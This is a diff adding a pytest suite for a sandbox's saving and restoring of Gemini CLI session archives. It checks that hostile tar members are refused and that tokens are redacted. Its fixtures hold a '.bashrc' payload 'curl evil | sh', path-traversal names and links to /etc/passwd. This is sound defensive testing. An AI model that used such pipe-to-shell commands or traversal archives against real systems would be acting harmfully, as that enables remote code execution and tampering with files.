@@ -1,0 +1,161 @@
+"""Saved CLI sessions (ec2_agent.sandbox.pack_home_paths / unpack_home_paths): a PR's conversation is kept
+after a job and put back into another sandbox's home for a follow-up. The archive is the CLI's own files, so
+it is unpacked as hostile input: only regular files and directories under the profile's `session_state`
+paths, bounded in size, never through a link."""
+
+from __future__ import annotations
+
+import io
+import tarfile
+from pathlib import Path
+
+import pytest
+
+from ec2_agent.sandbox import SandboxFault, pack_home_paths, unpack_home_paths
+
+PATHS = (".gemini/tmp", ".gemini/projects.json")
+
+
+def archive_of(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+        for info, data in members:
+            info.size = len(data) if info.isfile() else 0
+            archive.addfile(info, io.BytesIO(data) if info.isfile() else None)
+    return buffer.getvalue()
+
+
+def regular(name: str, data: bytes = b"x") -> tuple[tarfile.TarInfo, bytes]:
+    return tarfile.TarInfo(name), data
+
+
+def test_a_round_trip_keeps_files_and_leaves_out_links_and_other_paths(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    chats = home / ".gemini" / "tmp" / "ws" / "chats"
+    chats.mkdir(parents=True)
+    (chats / "session-1.jsonl").write_text('{"sessionId": "s"}\n')
+    (home / ".gemini" / "projects.json").write_text("{}")
+    (home / ".gemini" / "settings.json").write_text('{"apiKey": "not saved"}')
+    (chats / "link").symlink_to("/etc/passwd")
+    archive = pack_home_paths(home, PATHS, 100_000)
+    assert archive is not None
+    other = tmp_path / "other"
+    other.mkdir()
+    unpack_home_paths(archive, other, PATHS)
+    assert (other / ".gemini/tmp/ws/chats/session-1.jsonl").read_text() == '{"sessionId": "s"}\n'
+    assert (other / ".gemini/projects.json").read_text() == "{}"
+    assert not (other / ".gemini/settings.json").exists()
+    assert not (other / ".gemini/tmp/ws/chats/link").exists()
+
+
+def test_nothing_to_save_is_none_and_too_much_is_refused(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    assert pack_home_paths(home, PATHS, 100_000) is None
+    (home / ".gemini" / "tmp").mkdir(parents=True)
+    (home / ".gemini" / "tmp" / "big").write_bytes(bytes(range(256)) * 4096)
+    with pytest.raises(SandboxFault, match="exceed 1000 bytes"):
+        pack_home_paths(home, PATHS, 1000)
+
+
+def test_a_rename_applies_before_the_paths_are_checked(tmp_path: Path) -> None:
+    archive = archive_of(regular(".gemini/tmp/ws/chats/session-2026-11-30T02-50-0123abcd.jsonl"))
+    rename = (r"(chats/session-)\d{4}-\d\d-\d\dT\d\d-\d\d", r"\g<1>2000-01-01T00-00")
+    unpack_home_paths(archive, tmp_path, PATHS, rename)
+    assert (tmp_path / ".gemini/tmp/ws/chats/session-2000-01-01T00-00-0123abcd.jsonl").is_file()
+    escape = (r"^\.gemini/tmp/", "../")
+    with pytest.raises(SandboxFault, match="outside"):
+        unpack_home_paths(archive, tmp_path / "again", PATHS, escape)
+
+
+def _link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, bytes]:
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname = kind, target
+    return info, b""
+
+
+def _device(name: str) -> tuple[tarfile.TarInfo, bytes]:
+    info = tarfile.TarInfo(name)
+    info.type = tarfile.CHRTYPE
+    return info, b""
+
+
+@pytest.mark.parametrize(
+    ("member", "refusal"),
+    [
+        (regular(".bashrc", b"curl evil | sh"), "outside"),
+        (regular(".gemini/settings.json"), "outside"),
+        (regular("/etc/cron.d/x"), "outside"),
+        (regular(".gemini/tmp/../../.bashrc"), "outside"),
+        (_link(".gemini/tmp/ws", "/"), "not a file or a directory"),
+        (_link(".gemini/tmp/hard", "/etc/passwd", tarfile.LNKTYPE), "not a file or a directory"),
+        (_device(".gemini/tmp/null"), "not a file or a directory"),
+    ],
+)
+def test_a_hostile_archive_is_refused_whole(
+    tmp_path: Path, member: tuple[tarfile.TarInfo, bytes], refusal: str
+) -> None:
+    archive = archive_of(regular(".gemini/tmp/ws/chats/ok.jsonl"), member)
+    with pytest.raises(SandboxFault, match=refusal):
+        unpack_home_paths(archive, tmp_path, PATHS)
+    assert not list(tmp_path.iterdir()), "nothing may be unpacked from a refused archive"
+
+
+def test_a_bomb_and_garbage_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("ec2_agent.sandbox.ARCHIVE_MAX_BYTES", 1000)
+    with pytest.raises(SandboxFault, match="more than 1000 bytes"):
+        unpack_home_paths(archive_of(regular(".gemini/tmp/zeros", bytes(5000))), tmp_path, PATHS)
+    with pytest.raises(SandboxFault, match="cannot be unpacked"):
+        unpack_home_paths(b"not a gzip tar", tmp_path, PATHS)
+    assert not list(tmp_path.iterdir())
+
+
+def test_a_link_on_the_way_refuses_the_save_and_the_load(tmp_path: Path) -> None:
+    """The CLI may turn `~/.gemini` into a link (to the developer's own ~/.gemini in local mode): the saved
+    paths are then neither read through it nor written through it."""
+    outside = tmp_path / "outside"
+    (outside / "tmp").mkdir(parents=True)
+    (outside / "tmp" / "private.jsonl").write_text("someone else's chat")
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".gemini").symlink_to(outside)
+    with pytest.raises(SandboxFault, match="link"):
+        pack_home_paths(home, PATHS, 100_000)
+    with pytest.raises(SandboxFault, match="link"):
+        unpack_home_paths(archive_of(regular(".gemini/tmp/ws/chats/a.jsonl")), home, PATHS)
+    assert sorted(p.name for p in (outside / "tmp").iterdir()) == ["private.jsonl"]
+
+
+def test_a_key_in_a_chat_log_is_screened_before_it_is_kept(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    (home / ".gemini" / "tmp").mkdir(parents=True)
+    key = "ghp_" + "a1B2" * 9
+    (home / ".gemini" / "tmp" / "chat.jsonl").write_text(f'{{"text": "token {key}"}}\n')
+    archive = pack_home_paths(home, PATHS, 100_000)
+    assert archive is not None
+    unpack_home_paths(archive, tmp_path / "other", PATHS)
+    kept = (tmp_path / "other" / ".gemini" / "tmp" / "chat.jsonl").read_text()
+    assert key not in kept and "[redacted" in kept
+
+
+def test_a_file_over_the_unpacked_budget_is_refused_before_it_is_read(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("ec2_agent.sandbox.ARCHIVE_MAX_BYTES", 1000)
+    home = tmp_path / "home"
+    (home / ".gemini" / "tmp").mkdir(parents=True)
+    (home / ".gemini" / "tmp" / "zeros").write_bytes(bytes(5000))  # compresses far below any limit
+    with pytest.raises(SandboxFault, match="more than 1000 bytes"):
+        pack_home_paths(home, PATHS, 100_000)
+
+
+def test_names_a_rename_joins_keep_the_largest_file(tmp_path: Path) -> None:
+    """After a loaded session, Gemini CLI leaves the session's own file and a metadata-only one for the same
+    id, both saved; renamed back they share one name, and the conversation must win."""
+    rename = (r"(chats/session-)\d{4}-\d\d-\d\dT\d\d-\d\d", r"\g<1>2000-01-01T00-00")
+    full = ".gemini/tmp/ws/chats/session-2000-01-01T00-00-0123abcd.jsonl"
+    meta = ".gemini/tmp/ws/chats/session-2026-11-30T03-10-0123abcd.jsonl"
+    archive = archive_of(regular(full, b"the whole conversation"), regular(meta, b"{}"))
+    unpack_home_paths(archive, tmp_path, PATHS, rename)
+    assert (tmp_path / full).read_bytes() == b"the whole conversation"
+    assert [p.name for p in (tmp_path / full).parent.iterdir()] == [Path(full).name]
